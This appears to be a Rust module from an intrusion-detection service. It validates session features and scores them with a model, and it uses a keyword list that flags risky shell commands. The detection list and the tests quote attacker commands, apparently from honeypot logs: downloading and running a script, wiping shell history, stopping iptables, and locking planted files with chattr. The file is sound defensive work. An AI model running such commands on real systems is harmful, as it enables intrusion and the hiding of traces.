//! The behavioural fingerprint of one session, its validation, and the feature
//! vector the model scores.
//!
//! The six seed features (login hour, session duration, command count, failed
//! logins, protocol, typing speed) are the public contract of `/api/predict`
//! and of the CSV upload; they are read here from the original JSON forms and
//! from the original CSV header so every entry point validates the same way.

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::error::{Error, Result};
use crate::schema::PREDICT_FEATURE_COUNT;

/// Value a feature takes when the source cannot tell it (typing speed from a
/// log without timing, risky commands when only a count was given). Never a
/// made-up plausible value: the model sees "unknown" as its own value.
pub const UNKNOWN: f32 = -1.0;

/// The CSV header of the original system's batch upload, exactly.
pub const CSV_HEADER: &str = "LoginHour,SessionDuration,CommandsCount,FailedLogins,Protocol,TypingSpeed";

/// Upper bounds that keep values meaningful (and exactly representable as
/// `f32`); beyond them the input is a mistake, not a session.
const MAX_DURATION_MIN: f64 = 525_600.0; // a year
const MAX_COUNT: u64 = 10_000_000;
const MAX_TYPING_WPM: f64 = 1_000_000.0;

/// How the session reached the device.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "UPPERCASE")]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub enum Protocol {
    /// A web login.
    Https,
    /// SSH (OpenSSH, dropbear) or telnet-like shells.
    Ssh,
    /// FTP (vsftpd, proftpd).
    Ftp,
    /// Any protocol, from an address in the operator's Tor exit list.
    Tor,
}

impl Protocol {
    /// All protocols, in code order.
    pub const ALL: [Protocol; 4] = [Protocol::Https, Protocol::Ssh, Protocol::Ftp, Protocol::Tor];

    /// The numeric code the model sees. Fixed by the schema: do not reorder.
    pub fn code(self) -> f32 {
        match self {
            Protocol::Https => 0.0,
            Protocol::Ssh => 1.0,
            Protocol::Ftp => 2.0,
            Protocol::Tor => 3.0,
        }
    }

    /// The public name (`HTTPS`, `SSH`, `FTP`, `TOR`).
    pub fn as_str(self) -> &'static str {
        match self {
            Protocol::Https => "HTTPS",
            Protocol::Ssh => "SSH",
            Protocol::Ftp => "FTP",
            Protocol::Tor => "TOR",
        }
    }

    /// Parses a protocol name, case-insensitively. Anything else is an error
    /// (the original silently mapped unknown names to FTP).
    pub fn parse(name: &str) -> Result<Protocol> {
        let name = name.trim();
        Protocol::ALL.into_iter().find(|p| p.as_str().eq_ignore_ascii_case(name)).ok_or_else(|| Error::InvalidField {
            field: "protocol",
            detail: format!("must be one of HTTPS, SSH, FTP, TOR, got {name:?}"),
        })
    }
}

impl std::fmt::Display for Protocol {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One session's fingerprint: what the model scores.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Fingerprint {
    /// Hour of the login, 0–23, in the device's local time.
    pub login_hour: u8,
    /// Session length in minutes, ≥ 0.
    pub session_duration_min: f32,
    /// Number of commands run in the session.
    pub commands: u32,
    /// Failed login attempts that preceded the session.
    pub failed_logins: u32,
    /// How the session arrived.
    pub protocol: Protocol,
    /// Typing (or command-sending) speed in words per minute; `None` when the
    /// source has no keystroke or command timing.
    pub typing_speed_wpm: Option<f32>,
    /// How many of the commands are risky (downloads, `chmod +x`, persistence,
    /// history wiping, ...); `None` when only a count of commands is known.
    pub risky_commands: Option<u32>,
}

impl Fingerprint {
    /// The feature vector of the predict schema, in
    /// [`PREDICT_FEATURE_NAMES`](crate::schema::PREDICT_FEATURE_NAMES) order.
    pub fn features(&self) -> [f32; PREDICT_FEATURE_COUNT] {
        [
            f32::from(self.login_hour),
            self.session_duration_min,
            self.commands as f32,
            self.failed_logins as f32,
            self.protocol.code(),
            self.typing_speed_wpm.unwrap_or(UNKNOWN),
            self.risky_commands.map_or(UNKNOWN, |n| n as f32),
        ]
    }

    /// Reads the JSON body of `POST /api/predict` in the original forms:
    /// `login_time` as `"HH:MM"` or an integer hour, `commands` as a list of
    /// strings or a count, `protocol` case-insensitive. Returns the
    /// fingerprint and the command strings, if any were given.
    pub fn from_json(body: &Value) -> Result<(Fingerprint, Vec<String>)> {
        let obj =
            body.as_object().ok_or(Error::InvalidField { field: "body", detail: "must be a JSON object".into() })?;
        let get = |field: &'static str| obj.get(field).filter(|v| !v.is_null()).ok_or(Error::MissingField(field));

        let login_hour = parse_login_time(get("login_time")?)?;
        let session_duration_min = non_negative_number(get("session_duration")?, "session_duration", MAX_DURATION_MIN)?;
        let (commands, command_list) = match get("commands")? {
            Value::Array(items) => {
                let mut list = Vec::with_capacity(items.len());
                for item in items {
                    match item {
                        Value::String(s) => list.push(s.clone()),
                        other => {
                            return Err(Error::InvalidField {
                                field: "commands",
                                detail: format!("list items must be strings, got {}", type_name(other)),
                            })
                        }
                    }
                }
                (bounded_count(list.len() as u64, "commands")?, list)
            }
            other => (non_negative_integer(other, "commands")?, Vec::new()),
        };
        let failed_logins = non_negative_integer(get("failed_logins")?, "failed_logins")?;
        let protocol = match get("protocol")? {
            Value::String(s) => Protocol::parse(s)?,
            other => {
                return Err(Error::InvalidField {
                    field: "protocol",
                    detail: format!("must be a string, got {}", type_name(other)),
                })
            }
        };
        let typing_speed_wpm = non_negative_number(get("typing_speed")?, "typing_speed", MAX_TYPING_WPM)?;
        let risky_commands = if command_list.is_empty() && commands > 0 {
            None
        } else {
            Some(command_list.iter().filter(|c| is_risky_command(c)).count() as u32)
        };
        Ok((
            Fingerprint {
                login_hour,
                session_duration_min,
                commands,
                failed_logins,
                protocol,
                typing_speed_wpm: Some(typing_speed_wpm),
                risky_commands,
            },
            command_list,
        ))
    }

    /// Reads one data row of the original CSV upload (see [`CSV_HEADER`]).
    /// `row` is the 1-based data row number used in error messages.
    pub fn from_csv_record(record: &csv::StringRecord, row: u64) -> Result<Fingerprint> {
        let at = |e: Error| Error::CsvRow { row, detail: e.to_string() };
        if record.len() != 6 {
            return Err(Error::CsvRow { row, detail: format!("expected 6 columns, got {}", record.len()) });
        }
        let field = |i: usize| record.get(i).unwrap_or("").trim();
        let login_hour = parse_hour_text(field(0), "LoginHour").map_err(at)?;
        let session_duration_min = parse_number_text(field(1), "SessionDuration", MAX_DURATION_MIN).map_err(at)?;
        let commands = parse_count_text(field(2), "CommandsCount").map_err(at)?;
        let failed_logins = parse_count_text(field(3), "FailedLogins").map_err(at)?;
        let protocol = Protocol::parse(field(4)).map_err(at)?;
        let typing_speed_wpm = parse_number_text(field(5), "TypingSpeed", MAX_TYPING_WPM).map_err(at)?;
        Ok(Fingerprint {
            login_hour,
            session_duration_min,
            commands,
            failed_logins,
            protocol,
            typing_speed_wpm: Some(typing_speed_wpm),
            risky_commands: if commands == 0 { Some(0) } else { None },
        })
    }

    /// Checks a CSV header against [`CSV_HEADER`] (whitespace around names and
    /// a UTF-8 byte-order mark are tolerated, names are case-sensitive).
    pub fn check_csv_header(header: &csv::StringRecord) -> Result<()> {
        let got: Vec<&str> = header
            .iter()
            .enumerate()
            .map(|(i, h)| if i == 0 { h.trim_start_matches('\u{feff}').trim() } else { h.trim() })
            .collect();
        if got.join(",") == CSV_HEADER {
            Ok(())
        } else {
            Err(Error::CsvHeader { expected: CSV_HEADER, got: got.join(",") })
        }
    }
}

/// Whether a command line is one an intruder runs and an admin rarely does:
/// fetching code, making it executable, persistence, wiping traces.
pub fn is_risky_command(command: &str) -> bool {
    const RISKY: [&str; 23] = [
        "wget",
        "curl",
        "tftp",
        "ftpget",
        "nc ",
        "ncat",
        "/dev/tcp",
        "base64 -d",
        "chmod +x",
        "chmod 777",
        "crontab",
        "authorized_keys",
        "history -c",
        "rm -rf /var/log",
        // Any touch of HISTFILE/HISTSIZE is history tampering (unset, =/dev/null, =0).
        "histfile",
        "histsize=0",
        "/tmp/",
        "/dev/shm/",
        // Turning defences off.
        "iptables -f",
        "iptables stop",
        "ufw disable",
        "setenforce 0",
        // Making planted files undeletable.
        "chattr +i",
    ];
    let lower = command.to_ascii_lowercase();
    RISKY.iter().any(|needle| lower.contains(needle))
}

fn type_name(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "a list",
        Value::Object(_) => "an object",
    }
}

fn parse_login_time(v: &Value) -> Result<u8> {
    match v {
        Value::String(s) => parse_hour_text(s, "login_time"),
        Value::Number(_) => {
            let hour = non_negative_integer(v, "login_time")?;
            check_hour(u64::from(hour), "login_time")
        }
        other => Err(Error::InvalidField {
            field: "login_time",
            detail: format!("must be \"HH:MM\" or an hour 0-23, got {}", type_name(other)),
        }),
    }
}

/// `"HH:MM"`, `"HH:MM:SS"` or a bare hour `"HH"`.
fn parse_hour_text(text: &str, field: &'static str) -> Result<u8> {
    let invalid = || Error::InvalidField { field, detail: format!("must be \"HH:MM\" or an hour 0-23, got {text:?}") };
    let mut parts = text.trim().split(':');
    let hour: u64 =
        parts.next().filter(|h| !h.is_empty() && h.len() <= 2).and_then(|h| h.parse().ok()).ok_or_else(invalid)?;
    for (limit, part) in [59u64, 59].into_iter().zip(parts.by_ref()) {
        let ok = part.len() == 2 && part.parse::<u64>().is_ok_and(|m| m <= limit);
        if !ok {
            return Err(invalid());
        }
    }
    if parts.next().is_some() {
        return Err(invalid());
    }
    check_hour(hour, field)
}

fn check_hour(hour: u64, field: &'static str) -> Result<u8> {
    if hour <= 23 {
        Ok(hour as u8)
    } else {
        Err(Error::InvalidField { field, detail: format!("hour must be 0-23, got {hour}") })
    }
}

fn non_negative_number(v: &Value, field: &'static str, max: f64) -> Result<f32> {
    let n = v
        .as_f64()
        .ok_or_else(|| Error::InvalidField { field, detail: format!("must be a number, got {}", type_name(v)) })?;
    check_number(n, field, max)
}

fn check_number(n: f64, field: &'static str, max: f64) -> Result<f32> {
    if !n.is_finite() || n < 0.0 {
        return Err(Error::InvalidField { field, detail: format!("must be a number >= 0, got {n}") });
    }
    if n > max {
        return Err(Error::InvalidField { field, detail: format!("must be at most {max}, got {n}") });
    }
    Ok(n as f32)
}

fn non_negative_integer(v: &Value, field: &'static str) -> Result<u32> {
    let wrong = || Error::InvalidField { field, detail: format!("must be an integer >= 0, got {v}") };
    match v {
        Value::Number(n) => {
            let count = match (n.as_u64(), n.as_f64()) {
                (Some(u), _) => u,
                // 4.0 is an integer written by a float-happy client; 4.5 is not.
                (None, Some(f)) if f >= 0.0 && f.fract() == 0.0 && f <= MAX_COUNT as f64 => f as u64,
                _ => return Err(wrong()),
            };
            bounded_count(count, field)
        }
        other => {
            Err(Error::InvalidField { field, detail: format!("must be an integer >= 0, got {}", type_name(other)) })
        }
    }
}

fn bounded_count(count: u64, field: &'static str) -> Result<u32> {
    if count > MAX_COUNT {
        return Err(Error::InvalidField { field, detail: format!("must be at most {MAX_COUNT}, got {count}") });
    }
    Ok(count as u32)
}

fn parse_number_text(text: &str, field: &'static str, max: f64) -> Result<f32> {
    let n: f64 = text
        .parse()
        .map_err(|_| Error::InvalidField { field, detail: format!("must be a number >= 0, got {text:?}") })?;
    check_number(n, field, max)
}

fn parse_count_text(text: &str, field: &'static str) -> Result<u32> {
    let n: u64 = text
        .parse()
        .map_err(|_| Error::InvalidField { field, detail: format!("must be an integer >= 0, got {text:?}") })?;
    bounded_count(n, field)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn example() -> Value {
        json!({"login_time":"03:00","session_duration":5,"commands":["ls","sudo","chmod"],"failed_logins":4,"protocol":"TOR","typing_speed":120})
    }

    #[test]
    fn reads_the_original_example() {
        let (fp, cmds) = Fingerprint::from_json(&example()).unwrap();
        assert_eq!(fp.login_hour, 3);
        assert_eq!(fp.commands, 3);
        assert_eq!(cmds, vec!["ls", "sudo", "chmod"]);
        assert_eq!(fp.protocol, Protocol::Tor);
        assert_eq!(fp.typing_speed_wpm, Some(120.0));
        assert_eq!(fp.risky_commands, Some(0));
        assert_eq!(fp.features(), [3.0, 5.0, 3.0, 4.0, 3.0, 120.0, 0.0]);
    }

    #[test]
    fn accepts_integer_hour_count_and_any_case_protocol() {
        let body = json!({"login_time":14,"session_duration":2.5,"commands":7,"failed_logins":0,"protocol":"ssh","typing_speed":40});
        let (fp, cmds) = Fingerprint::from_json(&body).unwrap();
        assert_eq!((fp.login_hour, fp.commands, fp.protocol), (14, 7, Protocol::Ssh));
        assert!(cmds.is_empty());
        assert_eq!(fp.risky_commands, None, "a bare count says nothing about which commands");
    }

    #[test]
    fn flags_history_tampering_and_disabled_defences() {
        // Seen verbatim in the Cowrie logs of shared/data/real.
        assert!(is_risky_command("unset HISTORY HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH ; history -n"));
        assert!(is_risky_command("export HISTFILE=/dev/null ; export HISTSIZE=0"));
        assert!(is_risky_command("service iptables stop"));
        assert!(is_risky_command("chattr +i /dev/shm/.x"));
        for benign in ["uname -a", "ps -x", "apt update", "systemctl status sshd", "history | tail"] {
            assert!(!is_risky_command(benign), "{benign}");
        }
    }

    #[test]
    fn flags_risky_commands_in_a_list() {
        let body = json!({"login_time":"14:10","session_duration":3,"commands":["cd /tmp","wget http://x/a.sh","chmod +x a.sh","./a.sh"],"failed_logins":0,"protocol":"SSH","typing_speed":300});
        let (fp, _) = Fingerprint::from_json(&body).unwrap();
        assert_eq!(fp.risky_commands, Some(2), "wget and chmod +x");
    }

    #[test]
    fn rejects_bad_input_with_the_field_named() {
        let cases = [
            (json!({"login_time":"03:00","session_duration":5}), "commands"),
            (json!([1, 2]), "body"),
            (
                json!({"login_time":"25:00","session_duration":5,"commands":1,"failed_logins":0,"protocol":"SSH","typing_speed":1}),
                "login_time",
            ),
            (
                json!({"login_time":"3:7","session_duration":5,"commands":1,"failed_logins":0,"protocol":"SSH","typing_speed":1}),
                "login_time",
            ),
            (
                json!({"login_time":"03:00","session_duration":-1,"commands":1,"failed_logins":0,"protocol":"SSH","typing_speed":1}),
                "session_duration",
            ),
            (
                json!({"login_time":"03:00","session_duration":"5","commands":1,"failed_logins":0,"protocol":"SSH","typing_speed":1}),
                "session_duration",
            ),
            (
                json!({"login_time":"03:00","session_duration":5,"commands":[1],"failed_logins":0,"protocol":"SSH","typing_speed":1}),
                "commands",
            ),
            (
                json!({"login_time":"03:00","session_duration":5,"commands":1,"failed_logins":1.5,"protocol":"SSH","typing_speed":1}),
                "failed_logins",
            ),
            (
                json!({"login_time":"03:00","session_duration":5,"commands":1,"failed_logins":0,"protocol":"SMTP","typing_speed":1}),
                "protocol",
            ),
            (
                json!({"login_time":"03:00","session_duration":5,"commands":1,"failed_logins":0,"protocol":"SSH","typing_speed":-3}),
                "typing_speed",
            ),
            (
                json!({"login_time":"03:00","session_duration":5,"commands":1,"failed_logins":0,"protocol":"SSH","typing_speed":null}),
                "typing_speed",
            ),
        ];
        for (body, field) in cases {
            let err = Fingerprint::from_json(&body).unwrap_err();
            assert!(err.to_string().contains(field), "{body} -> {err}");
        }
    }

    #[test]
    fn reads_csv_rows_and_checks_the_header() {
        let header = csv::StringRecord::from(vec![
            "\u{feff}LoginHour",
            "SessionDuration",
            "CommandsCount",
            "FailedLogins",
            "Protocol",
            "TypingSpeed",
        ]);
        Fingerprint::check_csv_header(&header).unwrap();
        let bad = csv::StringRecord::from(vec!["LoginHour", "Duration"]);
        assert!(matches!(Fingerprint::check_csv_header(&bad), Err(Error::CsvHeader { .. })));

        let row = csv::StringRecord::from(vec!["2", "5", "80", "4", "tor", "120"]);
        let fp = Fingerprint::from_csv_record(&row, 1).unwrap();
        assert_eq!(fp.features(), [2.0, 5.0, 80.0, 4.0, 3.0, 120.0, UNKNOWN]);
        let bad_row = csv::StringRecord::from(vec!["2", "5", "x", "4", "TOR", "120"]);
        let err = Fingerprint::from_csv_record(&bad_row, 7).unwrap_err();
        assert_eq!(err.to_string(), "CSV row 7: field `CommandsCount`: must be an integer >= 0, got \"x\"");
    }
}
